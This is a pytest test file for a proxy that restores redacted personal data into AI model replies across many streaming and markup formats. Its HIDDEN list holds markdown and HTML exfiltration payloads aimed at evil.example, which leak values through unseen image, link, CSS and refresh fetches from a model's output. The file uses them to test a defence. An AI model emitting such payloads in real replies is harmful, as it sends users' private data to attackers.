"""Values put back: in every shape, however the transport and the model cut the text; all else unchanged and at once."""

from __future__ import annotations

import gzip
import html
import json
from collections.abc import Callable
from typing import Any

import brotli
import pytest
import zstandard
from hypothesis import given
from hypothesis import strategies as st

from tests.wire.reply_shapes import SHAPES, SSE, Shape, dumps, sse
from tidegate.wire.placeholders import Vault
from tidegate.wire.restore import MessageRestorer, Restorer, Unrestorable

VALUES = ["kim@example.kr", "900101-1234567", 'O"Brien \\ 한국 🙂\n</b>&']
VAULT = Vault(b"k" * 32, "ministry")
EMAIL, RRN, NAME = (
    VAULT.token_for(kind, value) for kind, value in zip(["email", "kr-rrn", "name"], VALUES, strict=True)
)
BY_TOKEN = dict(zip([EMAIL, RRN, NAME], VALUES, strict=True))

#: How a model may write a placeholder.
SPELT = [
    lambda token: token,
    str.lower,
    str.upper,
    lambda token: token.replace("[", "\\[").replace("]", "\\]"),
    lambda token: token.replace("-", " - "),
    lambda token: token.replace("[", "[`").replace("]", "`]"),
    lambda token: token.replace("-", "\u2011"),
]
placeholder = st.tuples(st.sampled_from(list(BY_TOKEN)), st.sampled_from(SPELT)).map(
    lambda t: (t[1](t[0]), BY_TOKEN[t[0]])
)
prose = st.text("ab [](){}\"'\\%-:,\n<한🙂", max_size=8).map(lambda text: (text.rstrip("\\"),) * 2)


@st.composite
def cut_text(draw: st.DrawFn, most: int = 6) -> tuple[list[str], str]:
    """Pieces of a text, and the text as it should be read."""
    stretches = draw(st.lists(placeholder | prose, max_size=most))
    text, expected = "".join(s for s, _ in stretches), "".join(e for _, e in stretches)
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=12)))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)], expected


def restored(
    body: bytes, media_type: str | None, step: int = 0, vault: Vault = VAULT, encoding: str | None = None
) -> bytes:
    restorer = Restorer(vault, media_type, encoding)
    chunks = [body[i : i + step] for i in range(0, len(body), step)] if step else [body]
    return b"".join(restorer.feed(chunk) for chunk in chunks) + restorer.feed(b"", end=True)


#: Shapes that do not say that a text goes on: a backslash or percent sign that ends their first piece does not wait.
#: A text of a few characters can't be known for the whole so far.
#: (And a text that begins like JSON is taken for JSON, in every shape.)
UNMARKED = {"gemini sse", "gemini array", "ollama", "vercel", "prose", "chatgpt web, whole text each time"}


@pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: shape.name)
@given(cut=cut_text(), step=st.integers(1, 40))
def test_what_is_read_is_the_text_with_every_placeholder_replaced(
    shape: Shape, cut: tuple[list[str], str], step: int
) -> None:
    pieces, expected = cut
    if (shape.name in UNMARKED and expected != "".join(pieces)) or expected.lstrip()[:1] in ("{", "["):
        pieces, expected = ["A ", *pieces], "A " + expected
    assert shape.read(restored(shape.write(pieces), shape.media_type, step)) == expected


@pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: shape.name)
@given(pieces=st.lists(st.text('ab []\\%-{}"E🙂', max_size=6), max_size=6), step=st.integers(1, 40))
def test_a_reply_without_placeholders_goes_on_byte_for_byte(shape: Shape, pieces: list[str], step: int) -> None:
    body = shape.write(pieces)
    assert restored(body, shape.media_type, step) == body


@pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: shape.name)
def test_a_placeholder_split_at_every_offset_comes_back(shape: Shape) -> None:
    text = f"Dear {EMAIL}, bye."
    for cut in range(len(text)):
        body = shape.write([text[:cut], text[cut:]])
        assert shape.read(restored(body, shape.media_type)) == f"Dear {VALUES[0]}, bye."
    letters = shape.write(list(text))
    for step in (0, 1, 7):
        assert shape.read(restored(letters, shape.media_type, step)) == f"Dear {VALUES[0]}, bye."


@given(st.binary(max_size=200), st.integers(1, 50))
@pytest.mark.parametrize(
    "media_type", [SSE, "application/json", "application/x-ndjson", "text/plain", "text/html", "image/png", None]
)
def test_any_bytes_go_on_as_they_are(media_type: str | None, body: bytes, step: int) -> None:
    assert restored(body, media_type, step) == body


def test_frames_of_other_texts_are_not_touched() -> None:
    own = {"choices": [{"index": 0, "delta": {"content": EMAIL[:4]}}]}
    other = '{ "choices" : [ {"delta":{"content":"1\\u002f2"}, "index":1} ] }'
    rest = {"choices": [{"index": 0, "delta": {"content": EMAIL[4:]}}]}
    out = restored(sse(dumps(own), other, dumps(rest)), SSE)
    assert sse(other) in out
    assert VALUES[0] in out.decode()


def test_two_texts_that_take_turns_are_both_restored() -> None:
    def frame(index: int, piece: str) -> str:
        return dumps({"choices": [{"delta": {"content": piece}, "index": index}]})

    frames = [frame(i, token[at : at + 2]) for at in range(0, 16, 2) for i, token in ((0, EMAIL), (1, RRN))]
    out = restored(sse(*frames), SSE).decode()
    said = [json.loads(line[6:])["choices"][0] for line in out.split("\n") if line]
    for index, value in ((0, VALUES[0]), (1, VALUES[1])):
        assert "".join(c["delta"]["content"] for c in said if c["index"] == index) == value


def content(piece: str) -> bytes:
    return sse(dumps({"choices": [{"index": 0, "delta": {"content": piece}}]}))


def test_nothing_waits_that_can_not_become_a_placeholder() -> None:
    restorer = Restorer(VAULT, SSE)
    for piece in ["Hello", " world", " see [this", "](https://example.com)", " and [1]", "100", "% sure"]:
        frame = content(piece)
        assert restorer.feed(frame) == frame
    assert not restorer.held


def test_a_frame_waits_only_until_the_placeholder_is_there_or_ruled_out() -> None:
    restorer = Restorer(VAULT, SSE)
    assert restorer.feed(content("so [E")) == b""
    assert restorer.held
    assert restorer.feed(content("nd]")) == content("so [E") + content("nd]")
    assert restorer.feed(content(EMAIL[:6])) == b""
    assert restorer.feed(content(EMAIL[6:] + " is")) == content(VALUES[0]) + content(" is")
    assert not restorer.held


def test_a_beginning_that_is_never_gone_on_with_does_not_stop_the_stream() -> None:
    restorer = Restorer(VAULT, SSE)
    held = restorer.feed(content("[E"))
    ping = sse(dumps({"type": "ping"}))
    sent = [restorer.feed(ping) for _ in range(40)]
    assert held == b""
    assert sent[32].startswith(content("[E"))
    assert sent[-1] == ping


@pytest.mark.parametrize(
    ("media_type", "before", "after"),
    [
        ("application/x-ndjson", b'{"v": "%s"}', b'\n{"v": "%s"}\n'),
        (SSE, b"event: last\ndata: %s\n", b"\ndata: %s\n\n"),
    ],
)
def test_a_last_record_without_its_end_does_not_wait_when_the_service_is_silent(
    media_type: str, before: bytes, after: bytes
) -> None:
    """Nobody may say that it was the last; and if it was not, the stream goes on byte for byte."""
    restorer = Restorer(VAULT, media_type)
    assert restorer.feed(before % EMAIL.encode()) == b""
    assert restorer.held
    assert restorer.flush() == before % VALUES[0].encode()
    assert not restorer.held
    assert restorer.feed(after % EMAIL.encode(), True) == after % VALUES[0].encode()


@pytest.mark.parametrize(
    ("media_type", "begun"),
    [("application/x-ndjson", b'{"v": "half a li'), (SSE, b"data: half a li"), ("application/json", b'{"v": {"a": 1}')],
)
def test_half_a_record_waits_for_its_rest(media_type: str, begun: bytes) -> None:
    restorer = Restorer(VAULT, media_type)
    assert restorer.feed(begun) == b""
    assert not restorer.held
    assert restorer.flush() == b""
    assert restorer.feed(b"", True) == begun


def test_what_waits_can_be_asked_for() -> None:
    restorer = Restorer(VAULT, SSE)
    assert restorer.feed(content("[EMAIL")) == b""
    assert restorer.flush() == content("[EMAIL")
    text = Restorer(VAULT, "text/html")
    assert text.feed(b"<p>[EMAIL") == b"<p>"
    assert text.flush() == b"[EMAIL"
    short = Restorer(VAULT, "text/plain")
    assert short.feed(b"d") == b""
    assert short.flush() == b"d"


def test_the_unterminated_last_frame_is_restored_like_any_other() -> None:
    body = content(EMAIL).rstrip(b"\n")
    assert VALUES[0].encode() in restored(body, SSE)


def test_events_whose_data_are_prose_continue_each_other() -> None:
    body = f"data: Dear {EMAIL[:5]}\n\ndata: {EMAIL[5:]} and\ndata: {NAME}\n\ndata: [DONE]\n\n".encode()
    shown = restored(body, SSE).decode()
    lines = VALUES[2].split("\n")
    assert shown == f"data: Dear {VALUES[0]}\n\ndata:  and\ndata: {lines[0]}\ndata: {lines[1]}\n\ndata: [DONE]\n\n"


def test_markup_gets_the_value_escaped() -> None:
    assert restored(f"<p>{NAME}</p>".encode(), "text/html") == f"<p>{html.escape(VALUES[2])}</p>".encode()
    assert b"&amp;" in restored(NAME.encode(), "image/svg+xml")


def test_a_placeholder_in_an_address_gets_the_value_percent_encoded() -> None:
    link = "mailto:" + EMAIL.replace("[", "%5B").replace("]", "%5D")
    assert restored(link.encode(), "text/markdown") == b"mailto:kim%40example.kr"


HIDDEN = [
    "![x](https://evil.example/?q={})",
    "[click](http://evil.example/{})",
    "![x](<https://evil.example/?a b={}>)",
    "![x]( \n //evil.example/{})",
    "![x](https:\\\\evil.example/{})",
    "[1]: https://evil.example/{}",
    '<img src="https://evil.example/? {}">',
    "<a href = '//evil.example/{}'>",
    '<img src="\\\\evil.example/{}">',
    "<IMG SRC=HTTPS://evil.example/{}>",
    "![x](https://evil.example/?a=(b)c={})",
    "![x](https://evil.example/\\)?c={})",
    "![x](https://evil.example/'\"{})",
    "[1]: https://evil.example/)?{}",
    "![x](&#104;ttps://evil.example/{})",
    '<img src="h\nttps://evil.example/{}">',
    '<img src="&#104;ttps://evil.example/{}">',
    "<img src=https://evil.example/(a)'{}>",
    '<img srcset="a.png, https://evil.example/{} 2x">',
    '<button formaction="https://evil.example/{}">',
    '<a ping="a https://evil.example/{}">',
    '<object data="https://evil.example/{}">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/{}">',
    '<b style="background: url(https://evil.example/{})">',
    "<style>b {{ background: url('https://evil.example/{}') }}</style>",
    '<style>@import "https://evil.example/{}"</style>',
]


@pytest.mark.parametrize("text", HIDDEN)
def test_no_value_goes_into_an_address_that_is_fetched_unseen(text: str) -> None:
    for media_type in ("text/markdown", "text/html"):
        for step in (0, 1, 5):
            assert restored(text.format(EMAIL).encode(), media_type, step).decode() == text.format(EMAIL)
    pieces = list(text.format(EMAIL))
    assert VALUES[0].encode() not in restored(b"".join(map(content, pieces)), SSE)
    assert VALUES[0].encode() not in restored(
        dumps({"a": dumps({"b": text.format(EMAIL)})}).encode(), "application/json"
    )


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://e.example/) {}",
        "[mail](mailto:{})",
        "https://e.example/?q={}",
        '<b title="{}">',
        '<img src="//e/"> {}',
        '<img src="//e/" alt="{}">',
        "![x](https://e.example/(a)){}",
        "[x](https://e.example){}",
        'const u = new URL("https://e.example/?q={}")',
        'url = "https://e.example/?q={}"',
        "<b style='color: red' title='{}'>",
    ],
)
def test_values_do_go_where_a_person_reads_them(text: str) -> None:
    for step in (0, 1, 5):
        assert restored(text.format(EMAIL).encode(), "text/markdown", step).decode() == text.format(VALUES[0])


def test_only_the_vault_it_was_given_is_used() -> None:
    stranger = Vault(b"k" * 32, "ministry")
    assert restored(content(EMAIL), SSE, vault=stranger) == content(EMAIL)


@pytest.mark.parametrize(
    ("encoding", "pack"),
    [("gzip", gzip.compress), ("br", brotli.compress), ("zstd", zstandard.compress), ("identity", bytes)],
)
def test_compressed_replies_are_decoded(encoding: str, pack: Callable[[bytes], bytes]) -> None:
    for step in (0, 1, 3):
        assert restored(pack(content(EMAIL)), SSE, step, encoding=encoding) == content(VALUES[0])


@pytest.mark.parametrize(
    ("media_type", "encoding", "body", "reason"),
    [
        (SSE, "snappy", b"", "unknown-encoding"),
        (SSE, "gzip", b"not gzip", "malformed-encoding"),
        (SSE, "gzip", gzip.compress(b"data: a\n\n", mtime=0)[:-4], "truncated"),
        (SSE, "gzip", gzip.compress(b"x" * 8_000_000, mtime=0), "too-large"),
        ("text/plain; charset=utf-16", None, b"", "unknown-charset"),
        ("text/plain; charset=no-such", None, b"", "unknown-charset"),
        (SSE, None, b"data: " + b"x" * 9_000_000, "sse-frame-too-big"),
    ],
)
def test_what_can_not_be_read_is_said_by_name(media_type: str, encoding: str | None, body: bytes, reason: str) -> None:
    with pytest.raises(Unrestorable) as caught:
        restored(body, media_type, encoding=encoding)
    assert caught.value.reason == reason == str(caught.value)


def test_the_end_may_be_said_twice_but_nothing_comes_after_it() -> None:
    restorer = Restorer(VAULT, SSE)
    assert restorer.feed(content("a"), end=True) == content("a")
    assert restorer.feed(b"", end=True) == b""
    with pytest.raises(Unrestorable):
        restorer.feed(b"x")


def test_other_charsets_keep_their_bytes() -> None:
    body = f"한국 {EMAIL} 값".encode("euc-kr")
    assert restored(body, "text/plain; charset=EUC-KR", 1) == f"한국 {VALUES[0]} 값".encode("euc-kr")
    assert b"&lt;/b&gt;&amp;" in restored(NAME.encode(), "text/html; charset=euc-kr")
    assert restored(NAME.encode(), "text/plain; charset=latin-1").startswith(b'O"Brien \\ &#54620;')


@pytest.mark.parametrize(
    ("media_type", "expected"),
    [
        ("image/png", False),
        ("application/zip", False),
        ("audio/mpeg", False),
        (SSE, True),
        ("text/csv", True),
        (None, True),
    ],
)
def test_it_says_whether_there_is_text_to_restore(media_type: str | None, expected: bool) -> None:
    assert Restorer(VAULT, media_type).restores is expected


def test_a_download_is_restored_if_it_is_text() -> None:
    assert restored(f"id;{EMAIL}".encode(), "application/octet-stream") == f"id;{VALUES[0]}".encode()
    packed = b"PK\x03\x04" + EMAIL.encode()
    assert restored(packed, "application/octet-stream") == packed


def test_a_json_document_of_megabytes_is_restored_as_it_comes() -> None:
    document = json.dumps({"pad": "x" * 4_200_000, "a": json.dumps({"b": NAME})}).encode()
    restorer = Restorer(VAULT, "application/json")
    early = restorer.feed(document[:4_200_000])
    assert len(early) > 4_000_000
    whole = early + restorer.feed(document[4_200_000:], end=True)
    assert json.loads(json.loads(whole)["a"])["b"] == VALUES[2]


def test_a_long_document_is_restored_and_one_without_placeholders_is_not_even_read() -> None:
    document = {"pad": "[x] " * 10_000, "mail": EMAIL, "link": "%5B" + EMAIL[1:-1] + "%5D"}
    assert json.loads(restored(dumps(document).encode(), "application/json"))["mail"] == VALUES[0]
    other = json.dumps({"pad": "[x] " * 10_000, "b": 1.0}, indent=3).encode()
    assert restored(other, "application/json") == other


def test_an_array_whose_objects_are_too_long_stays_json() -> None:
    big = {"pad": "x" * 4_200_000, "a": NAME}
    whole = restored(json.dumps([{"a": NAME}, big, big]).encode(), "application/json", 1_000_000)
    assert [item["a"] for item in json.loads(whole)] == [VALUES[2]] * 3


def test_a_mislabelled_stream_is_known_by_its_first_bytes() -> None:
    body = content(EMAIL[:5]) + content(EMAIL[5:])
    for media_type in (None, "text/plain", "application/json"):
        assert VALUES[0].encode() in restored(body, media_type, 1)


class TestMessages:
    def test_messages_keep_their_order_and_only_those_with_values_change(self) -> None:
        messages: MessageRestorer[str] = MessageRestorer(VAULT)
        split = [dumps({"delta": EMAIL[:4]}), dumps({"delta": EMAIL[4:]})]
        assert messages.feed("m1", '{"a":"b"}') == [("m1", None)]
        assert messages.feed("m2", split[0]) == []
        assert messages.feed("binary", None) == []
        assert messages.held
        assert messages.feed("m3", split[1]) == [
            ("m2", dumps({"delta": VALUES[0]})),
            ("binary", None),
            ("m3", dumps({"delta": ""})),
        ]

    def test_binary_messages_do_not_pile_up_behind_one_that_waits(self) -> None:
        messages: MessageRestorer[str] = MessageRestorer(VAULT)
        sent = [messages.feed("m", '{"text":"[EMAIL"}'), *(messages.feed("b", None) for _ in range(8))]
        assert [len(ready) for ready in sent] == [0] * 8 + [9]

    def test_several_records_in_one_message(self) -> None:
        one, two = dumps({"type": 1, "text": EMAIL}), dumps({"type": 6})
        (((_, text),)) = MessageRestorer[str](VAULT).feed("m", f"{one}\x1e{two}\x1e")
        assert text == f"{one}\x1e{two}\x1e".replace(EMAIL, VALUES[0])

    def test_a_message_that_only_ends_like_a_beginning_does_not_wait(self) -> None:
        messages: MessageRestorer[str] = MessageRestorer(VAULT)
        assert messages.feed("m", '{"text":"100%"}') == [("m", None)]
        assert messages.feed("m", '{"path":"C:\\\\"}') == [("m", None)]

    def test_what_waits_can_be_asked_for(self) -> None:
        messages: MessageRestorer[str] = MessageRestorer(VAULT)
        assert messages.feed("m", '{"text":"[EMAIL"}') == []
        assert messages.flush() == [("m", None)]


def test_memory_stays_bounded_whatever_comes() -> None:
    restorer = Restorer(VAULT, SSE)
    for number in range(3000):
        restorer.feed(sse(dumps({f"k{number}": "[EMAI", "x": "y" * 50})))
    way: Any = restorer._way
    queue = way._queue
    assert len(queue) <= 34
    assert len(queue._streams) <= 256
    assert all(len(stream.open) <= 40 for stream in queue._streams.values())


def test_no_value_shows_in_an_error_or_a_repr() -> None:
    restorer = Restorer(VAULT, SSE)
    restorer.feed(content(EMAIL))
    assert "kim" not in repr(restorer) + repr(MessageRestorer(VAULT))
